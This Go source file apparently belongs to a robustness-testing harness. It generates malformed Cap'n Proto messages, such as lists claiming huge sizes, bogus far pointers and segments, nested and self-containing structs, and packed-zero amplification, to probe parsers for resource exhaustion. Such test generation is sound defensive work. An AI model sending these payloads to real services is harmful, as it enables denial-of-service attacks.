package attacks

import "encoding/binary"

const capnpSpec = "https://capnproto.org/encoding.html"

// capnpSlots is how many pointers the root has.
const capnpSlots = 16

// The kinds of pointers, in their lowest bits, and of elements of lists.
const (
	structPointer, listPointer, farPointer = 0, 1, 2
	voids, octets, pointers, composite     = 0, 2, 6, 7
)

// capnpAttacks has no fields: a schema's numbers do not tell where a pointer is. So all pointers of the
// root lead to the same place.
func capnpAttacks() Attacks {
	const (
		amplified = capnpSpec + "#amplification-attack"
		virtual   = "https://github.com/capnproto/capnproto/commit/104870608fde3c698483fdef6b97f093fc15685d"
		self      = "\xfc\xff\xff\xff\x00\x00\x01\x00" // a struct with one pointer, which is this one
		next      = "\x00\x00\x00\x00\x00\x00\x01\x00" // a struct with one pointer, behind this one
		four      = "\x0c\x00\x00\x00\x00\x00\x04\x00\x08\x00\x00\x00\x00\x00\x04\x00\x04\x00\x00\x00\x00\x00\x04\x00\x00\x00\x00\x00\x00\x00\x04\x00"
		list      = "\x01\x00\x00\x00\x0e\x00\x00\x00" // a list of one pointer, behind this one
		null      = "\x00\x00\x00\x00\x00\x00\x00\x00"
	)
	return Attacks{Whole: []Attack{
		{"list of n elements without content", Claimed, capnpRoot(listOf(voids), ""), virtual},
		{"list of n bytes, none of which is sent", Claimed, capnpRoot(listOf(octets), ""), capnpSpec + "#lists"},
		{"list of n pointers, none of which is sent", Claimed, capnpRoot(listOf(pointers), ""), capnpSpec + "#lists"},
		{"list of n structs without content", Claimed, capnpStructs(0), virtual},
		{"list of n structs with content, none of which is sent", Claimed, capnpStructs(1), capnpSpec + "#lists"},
		{"far pointer into segment n", Claimed, capnpRoot(func(at, n int) (int, int) { return farPointer, n }, ""), capnpSpec + "#inter-segment-pointers"},
		{"far pointer n words into its segment", Claimed, capnpRoot(func(at, n int) (int, int) { return min(n, 1<<29-1)<<3 | farPointer, 0 }, ""), capnpSpec + "#inter-segment-pointers"},
		{"n segments, none of which is sent", Claimed, claim("", le32, "\x01\x00\x00\x00"), capnpSpec + "#serialization-over-a-stream"},
		{"segment of n words, none of which is sent", Claimed, claim("\x00\x00\x00\x00", le32, next), capnpSpec + "#serialization-over-a-stream"},
		{"n structs, nested", Levels, capnpTo(structOf(1), next, null), amplified},
		{"n structs, each of which has four times the next", Levels, capnpTo(structOf(4), four, null+null+null+null), amplified},
		{"n lists of one pointer, nested", Levels, capnpTo(func(at, _ int) (int, int) { return at<<2 | listPointer, 1<<3 | pointers }, list, null), amplified},
		{"list of n structs that contain themselves", Size, capnpTo(listOf(pointers), self, ""), amplified},
		{"list of n null pointers", Size, capnpTo(listOf(pointers), null, ""), amplified},
		{"packed: n times 2 KiB of zeros in two bytes each", Size, packed, capnpSpec + "#packing"},
	}}
}

// listOf points to a list of n elements, which starts some words after the pointer.
func listOf(kind int) func(at, n int) (int, int) {
	return func(at, n int) (int, int) { return at<<2 | listPointer, min(n, 1<<29-1)<<3 | kind }
}

// structOf points to a struct, which starts some words after the pointer.
func structOf(size int) func(at, n int) (int, int) {
	return func(at, _ int) (int, int) { return at<<2 | structPointer, size << 16 }
}

// capnpRoot makes a message whose root has the same pointer in all places, and bytes behind it.
func capnpRoot(pointer func(at, n int) (low, high int), behind string) func(int) Input {
	return func(n int) Input { return capnpMessage(pointer, n, Of(behind)) }
}

// capnpTo makes a message whose root has the same pointer in all places, and n equal parts behind it.
func capnpTo(pointer func(at, n int) (low, high int), each, last string) func(int) Input {
	return func(n int) Input {
		n = fitting(n, len(each))
		return capnpMessage(pointer, n, Join(Repeat(each, n), Of(last)))
	}
}

// capnpMessage is a message of one segment.
func capnpMessage(pointer func(at, n int) (low, high int), n int, behind Input) Input {
	b := le32(nil, 0)
	b = le32(b, 1+capnpSlots+behind.Len()/8)
	b = append(b, 0, 0, 0, 0, 0, 0, capnpSlots, 0)
	for i := range capnpSlots {
		low, high := pointer(capnpSlots-1-i, n)
		b = le32(le32(b, low), high)
	}
	return Join(Of(b), behind)
}

// capnpStructs makes a list of n structs of some words: a tag has their number.
func capnpStructs(words int) func(int) Input {
	return func(n int) Input {
		n = min(n, 1<<29-1)
		tag := le32(le32(nil, n<<2|structPointer), words)
		return capnpMessage(func(at, _ int) (int, int) {
			return at<<2 | listPointer, min(n*words, 1<<29-1)<<3 | composite
		}, n, Of(tag))
	}
}

// packed makes a segment of n runs of 256 words of zeros, each a zero and how many follow the first.
func packed(n int) Input {
	b := binary.LittleEndian.AppendUint32(nil, uint32(256*n))
	head := []byte{0xf0} // of the first word, only the second half has bytes that are not left out
	return Join(Of(append(head, b...)), Repeat("\x00\xff", n))
}
